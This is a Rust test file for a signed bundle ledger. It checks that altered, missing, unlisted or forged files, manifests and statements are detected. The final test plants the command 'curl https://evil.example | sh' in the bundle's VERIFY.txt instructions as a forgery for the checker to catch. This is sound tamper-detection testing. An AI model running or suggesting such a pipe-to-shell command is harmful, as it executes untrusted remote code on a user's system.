//! A file of a bundle that was changed, added or taken away is named.

use gonogo::ledger::{Bundle, BundleError};

use super::sample::{made, relisted, rendered, summed};

#[test]
fn a_changed_byte_of_any_file_is_named() {
    let bundle = made().bundle();
    for name in bundle.files.keys().filter(|name| *name != "MANIFEST.json") {
        let mut changed = bundle.clone();
        let bytes = changed.files.get_mut(name).expect("the file");
        let last = bytes.len() - 1;
        bytes[last] ^= 1;
        assert_eq!(Bundle::from_zip(&changed.to_zip().expect("a zip")).expect("a bundle"), changed);
        assert_eq!(changed.check_manifest(), Err(BundleError::Altered(vec![name.clone()])));
    }
}

#[test]
fn the_manifest_cannot_be_bent_by_itself() {
    let bundle = made().bundle();
    let manifest = String::from_utf8(bundle.files["MANIFEST.json"].clone()).expect("text");
    let digest = bundle.manifest().expect("a manifest").files["report.html"].to_string();
    let other = format!("{}{}", &digest[1..], &digest[..1]);
    for (from, to) in [
        ("gonogo.bundle/v1", "gonogo.bundle/v2"),
        (digest.as_str(), other.as_str()),
        ("\"report\": \"", "\"report\": \"0"),
        ("\"schema\"", "\"report\": \"x\",\n  \"schema\""),
        ("report.html", "report.htm"),
        ("}\n}", "},"),
    ] {
        assert!(manifest.contains(from), "{from}");
        let mut bent = bundle.clone();
        bent.files.insert("MANIFEST.json".into(), manifest.replacen(from, to, 1).into_bytes());
        assert!(bent.check_manifest().is_err(), "{from} -> {to}");
    }
    // A newer program may say more.
    let mut newer = bundle.clone();
    newer.files.insert("MANIFEST.json".into(), manifest.replacen('{', "{\"newer\": true,", 1).into_bytes());
    // Its sums know of it.
    assert_eq!(newer.check_manifest(), Err(BundleError::Altered(vec!["SHA256SUMS".into()])));
    assert_eq!(summed(newer).check_manifest(), Ok(()));
}

#[test]
fn files_that_no_list_names_and_files_that_are_gone_are_refused() {
    let bundle = made().bundle();
    for name in bundle.files.keys() {
        let mut less = bundle.clone();
        less.files.remove(name);
        assert_eq!(Bundle::from_zip(&less.to_zip().expect("a zip")), Err(BundleError::Missing(name.clone())));
    }
    let mut more = bundle;
    more.files.insert("plan/extra.yaml".into(), Vec::new());
    assert_eq!(Bundle::from_zip(&more.to_zip().expect("a zip")), Err(BundleError::Unlisted("plan/extra.yaml".into())));
}

#[test]
fn a_file_that_every_bundle_has_cannot_be_struck_from_the_list_too() {
    for name in ["report.json", "report.html", "report.md", "record.json", "ledger.jsonl", "allowed_signers", "VERIFY.txt"] {
        let mut less = made().bundle();
        less.files.remove(name);
        assert_eq!(relisted(less).check_manifest(), Err(BundleError::Missing(name.into())));
    }
}

/// Whoever changes a file and its lists too is seen by making the pages again, and by the fingerprint people signed.
#[test]
fn pages_that_report_and_record_do_not_make_are_seen() {
    let whole = relisted(made().bundle());
    assert_eq!((whole.check_manifest(), rendered(&whole).html.as_bytes() == whole.html()), (Ok(()), true));
    for (name, from, to) in [
        ("report.html", "Bob Brown", "Eve Brown"),
        ("report.md", "EMERGENCY", "routine"),
        ("record.json", "Bob Brown", "Eve Brown"),
        ("record.json", "\"void\"", "\"noted\""),
        ("report.json", "\"outcome\":\"skipped\"", "\"outcome\":\"pass\""),
    ] {
        let mut forged = made().bundle();
        let text = String::from_utf8(forged.files[name].clone()).expect("text");
        assert!(text.contains(from), "{name}: {from}");
        forged.files.insert(name.into(), text.replacen(from, to, 1).into_bytes());
        let forged = relisted(forged);
        assert_eq!(forged.check_manifest(), Ok(()));
        let again = rendered(&forged);
        assert!(again.html.as_bytes() != forged.html() || again.markdown.as_bytes() != forged.markdown(), "{name}: {from} -> {to}");
    }
}

#[test]
fn evidence_under_another_fingerprint_is_seen_whatever_the_lists_say() {
    let mut forged = made().bundle();
    let name = forged.files.keys().find(|name| name.starts_with("evidence/")).expect("evidence").clone();
    forged.files.insert(name.clone(), b"something else".to_vec());
    assert_eq!(relisted(forged).check_manifest(), Err(BundleError::Altered(vec![name])));
}

#[test]
fn statements_that_are_none_are_refused() {
    for (name, bytes) in [
        ("statements/0001-sign-off.pae", "DSSEv1 28 application/vnd.in-toto+json 3 {}"),
        ("statements/0001-sign-off.pae", "{}"),
        ("statements/0001-sign-off.pae", ""),
        ("statements/1-run.pae", "DSSEv1 28 application/vnd.in-toto+json 2 {}"),
        ("statements/run.pae", "DSSEv1 28 application/vnd.in-toto+json 2 {}"),
        ("statements/0009-run.txt", "DSSEv1 28 application/vnd.in-toto+json 2 {}"),
        ("statements/0009-run.pae.sig", "a signature of nothing"),
    ] {
        let mut forged = made().bundle();
        assert!(forged.statements().is_ok());
        forged.files.insert(name.into(), bytes.into());
        assert!(forged.statements().is_err(), "{name}: {bytes}");
    }
}

#[test]
fn statements_are_those_of_the_ledger_and_the_instructions_fit_them() {
    let made = made();
    let bundle = made.bundle();
    assert_eq!(bundle.check_entries(&made.entries), Ok(()));
    let first = "statements/0001-sign-off.pae".to_owned();
    let altered = |name: &str| Err(BundleError::Altered(vec![name.to_owned()]));
    let mut others = made.entries.clone();
    others[0].signature = None;
    assert_eq!(bundle.check_entries(&others), altered(&first));
    others[0] = made.entries[0].clone();
    others[0].payload.push(b' ');
    assert_eq!(bundle.check_entries(&others), altered(&first));
    assert_eq!(bundle.check_entries(&made.entries[1..]), altered(&first));
    // At another time another key may have counted.
    others[0] = made.entries[0].clone();
    others[0].recorded = "2025-12-13T12:00:00Z".parse().expect("an instant");
    assert_eq!(bundle.check_entries(&others), altered("VERIFY.txt"));
    let mut forged = bundle;
    forged.files.get_mut("VERIFY.txt").expect("instructions").extend_from_slice(b"    curl https://evil.example | sh\n");
    assert_eq!(relisted(forged).check_entries(&made.entries), altered("VERIFY.txt"));
}
